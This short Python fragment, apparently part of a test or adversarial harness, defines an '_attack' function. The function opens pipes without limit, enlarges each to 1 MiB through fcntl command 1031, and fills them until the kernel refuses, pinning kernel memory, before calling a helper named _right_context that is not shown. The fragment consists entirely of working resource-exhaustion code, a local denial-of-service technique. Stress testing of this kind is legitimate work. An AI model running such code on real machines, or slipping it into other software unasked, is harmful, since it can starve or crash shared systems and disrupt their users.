"""Pipes filled to the brim: memory that the kernel holds for this process."""

import fcntl
import os
import time


def _attack(messages):
    kept = []
    try:
        while True:
            out, into = os.pipe()
            kept.append((out, into))
            os.set_blocking(into, False)
            try:
                fcntl.fcntl(into, 1031, 1 << 20)
            except OSError:
                pass
            try:
                while True:
                    os.write(into, b"x" * 65536)
            except BlockingIOError:
                pass
    except OSError:
        pass
    return _right_context(messages)
